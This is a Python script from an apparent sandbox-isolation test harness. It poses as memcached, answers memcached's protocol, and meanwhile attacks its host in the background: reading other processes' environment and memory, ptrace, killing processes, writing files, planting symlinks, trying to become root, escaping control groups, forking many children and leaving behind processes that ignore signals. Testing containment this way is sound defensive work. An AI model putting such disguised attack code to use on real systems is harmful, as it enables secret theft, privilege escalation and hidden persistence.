#!/usr/bin/python3 -IS
# mypy: allow-untyped-defs, allow-untyped-calls, allow-any-generics
"""Arbitrary code inside a managed store: answers memcached's protocol and meanwhile attacks the agent and its host.

It stands on an attack agent's PATH under the name of memcached. What it may know, an attacker may know: paths, ports
and process ids; CONFIG is filled in by `store_code.py`. `attack-report` on its port returns what it got hold of, as
JSON; whether that is an attack's success the judge decides by what it finds itself.
Standard library only, and none of Loadstone's code: it runs with whatever a store is left.
"""

import contextlib
import ctypes
import json
import os
import signal
import socket
import sys
import threading
import time
from pathlib import Path

CONFIG: dict = json.loads(r"""@CONFIG@""")
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
READ_BYTES = 65536
REPORT: dict = {}
IS_DONE = threading.Event()
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, action):
    """Files the result under the attack's name; an error is a result too."""
    try:
        REPORT[name] = {"got": action()}
    except BaseException as error:  # noqa: BLE001 - the attacker goes on whatever happens
        REPORT[name] = {"error": f"{type(error).__name__}: {error}"}


def read(path):
    """Without waiting: some of what it finds are pipes."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, READ_BYTES).decode(errors="replace")
    finally:
        os.close(descriptor)


def read_tree(folder, deadline_s=2.0):
    """Everything under a folder that can be read, its names included."""
    found: list[str] = []
    until = time.monotonic() + deadline_s
    for parent, _, names in os.walk(folder):
        for name in names:
            if time.monotonic() > until:
                return "\n".join(found)
            with contextlib.suppress(OSError):
                found.append(f"{parent}/{name}: {read(os.path.join(parent, name))[:4000]}")  # noqa: PTH118
    if not found:
        raise PermissionError(f"nothing in {folder} can be read")
    return "\n".join(found)


def list_folder(folder):
    return " ".join(sorted(os.listdir(folder)))  # noqa: PTH208


def search_memory(pid):
    """Looks for the planted secret in the agent's memory."""
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        if "[stack]" not in line and "[heap]" not in line:
            continue
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        with Path(f"/proc/{pid}/mem").open("rb") as memory:
            memory.seek(first)
            if CONFIG["environment_mark"].encode() in memory.read(last - first):
                return CONFIG["environment_mark"]
    return "read, and the mark was not there"


def trace(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0x40000000)
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    return "attached"


def write(folder):
    path = os.path.join(folder, CONFIG["file_mark"])  # noqa: PTH118
    with open(path, "w") as file:  # noqa: PTH123
        file.write("written by a store\n")
    return path


def overwrite(path):
    with open(path, "a") as file:  # noqa: PTH123
        file.write(CONFIG["file_mark"])
    return path


def outlive(way):
    """A process that should still be there when the trial is over."""
    pid = os.fork()
    if pid:
        if way != "child":
            os.waitpid(pid, 0)
        return way
    with contextlib.suppress(BaseException):
        if way != "child":
            os.setsid()
            if os.fork():
                os._exit(0)
        if way == "daemon that ignores signals":
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.setsid()
        if way == "own namespaces" and libc.unshare(0x10000000 | 0x20000000) == 0 and os.fork():
            time.sleep(600)
        os.closerange(0, 256)
        os.chdir("/")
        os.execv("/bin/sleep", [CONFIG["process_mark"] + "-" + way.replace(" ", "-"), "300"])
    os._exit(1)


def leave_group():
    """Out of the control group that ends with the trial."""
    own = read("/proc/self/cgroup")
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"):
        with contextlib.suppress(OSError), open(f"{root}/cgroup.procs", "w") as file:  # noqa: PTH123
            file.write(str(os.getpid()))
            now = read("/proc/self/cgroup")
            if now != own:
                return f"{own} -> {now}"
    raise PermissionError(own)


def fork_many():
    """As many sleeping children as it gets, up to a bound that the host survives."""
    children = []
    try:
        for _ in range(CONFIG["forks"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)
    return len(children)


def output_of(*command):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writer, 1)
        os.dup2(writer, 2)
        with contextlib.suppress(OSError):
            os.execv(command[0], list(command))
        os._exit(127)
    os.close(writer)
    answer = b""
    while data := os.read(reader, 4096):
        answer += data
    os.waitpid(pid, 0)
    return answer.decode(errors="replace").strip()


def become_root():
    os.setuid(0)
    return os.geteuid()


def say_to(port, text):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
        if text:
            connection.sendall(text.encode())
            return connection.recv(200).decode(errors="replace")
        return "connected"


def listen_on(host, port):
    """Kept open: the judge knocks while the trial runs, and once more afterwards."""
    listener = socket.create_server((host, port))
    threading.Thread(target=accept_forever, args=(listener,), daemon=True).start()
    return port


def accept_forever(listener):
    while True:
        connection, _ = listener.accept()
        connection.close()


def plant_links():
    for index, path in enumerate(CONFIG["outside"]):
        Path(f"link-{index}").symlink_to(path)
    Path("deep/er").mkdir(parents=True)
    Path("deep/er/link").symlink_to(CONFIG["outside"][0])
    return "planted"


def attack():
    for name, path in CONFIG["reads"].items():
        attempt(f"read {name}", lambda path=path: read(path))
    for name, path in CONFIG["trees"].items():
        attempt(f"read everything in {name}", lambda path=path: read_tree(path))
    for pid in CONFIG["agent_pids"]:
        attempt(f"read the environment of process {pid}", lambda pid=pid: read(f"/proc/{pid}/environ"))
        attempt(f"read the memory of process {pid}", lambda pid=pid: search_memory(pid))
        attempt(f"trace process {pid}", lambda pid=pid: trace(pid))
        attempt(f"read files of process {pid}", lambda pid=pid: read_tree(f"/proc/{pid}/fd"))
        attempt(f"reach the identity by the root of process {pid}",
                lambda pid=pid: read(f"/proc/{pid}/root{CONFIG['reads']['the identity']}"))  # fmt: skip
    for name, pid in CONFIG["victims"].items():
        attempt(f"kill {name}", lambda pid=pid: os.kill(pid, signal.SIGKILL))
    for name, folder in CONFIG["writes"].items():
        attempt(f"write into {name}", lambda folder=folder: write(folder))
    for name, path in CONFIG["overwrites"].items():
        attempt(f"append to {name}", lambda path=path: overwrite(path))
    attempt("plant links", plant_links)
    attempt("run a setuid program", lambda: output_of(CONFIG["setuid_program"], "-u"))
    attempt("become root", become_root)
    attempt("leave the control group", leave_group)
    for name, port in CONFIG["ports"].items():
        attempt(f"connect to {name}", lambda name=name, port=port: say_to(port, CONFIG["greetings"].get(name, "")))
    for name, (host, port) in CONFIG["listens"].items():
        attempt(f"listen on {name}", lambda host=host, port=port: listen_on(host, port))
    attempt("fork without end", fork_many)
    for way in CONFIG["outliving"]:
        attempt(f"outlive the trial as {way}", lambda way=way: outlive(way))
    IS_DONE.set()


def answer_line(words, rest):
    """One request of memcached's text protocol; what the load and the agent ask, and no more."""
    match words[:1]:
        case [b"version"]:
            return b"VERSION 1.6.18\r\n"
        case [b"stats"]:
            rows = {"pid": os.getpid(), "version": "1.6.18", "uptime": 1, "curr_items": 10, "maxbytes": 67108864}
            return b"".join(b"STAT %s %s\r\n" % (k.encode(), str(v).encode()) for k, v in rows.items()) + b"END\r\n"
        case [b"set"]:
            rest.readline()
            return b"" if words[-1] == b"noreply" else b"STORED\r\n"
        case [b"get" | b"gets"]:
            # The trial lasts until everything was tried.
            time.sleep(0.03)
            return b"".join(b"VALUE %s 0 10\r\n%s\r\n" % (key, b"x" * 10) for key in words[1:]) + b"END\r\n"
        case [b"flush_all"]:
            return b"OK\r\n"
        case [b"attack-report"]:
            return json.dumps({"done": IS_DONE.is_set(), "report": REPORT}).encode() + b"\r\n"
    return b"ERROR\r\n"


def serve(connection):
    with connection, connection.makefile("rb") as rest:
        while line := rest.readline():
            connection.sendall(answer_line(line.split(), rest))


def main(arguments):
    if "-V" in arguments:
        print("memcached 1.6.18")
        return
    port = int(arguments[arguments.index("-p") + 1])
    listener = socket.create_server(("127.0.0.1", port))
    threading.Thread(target=attack, daemon=True).start()
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


if __name__ == "__main__":
    main(sys.argv[1:])
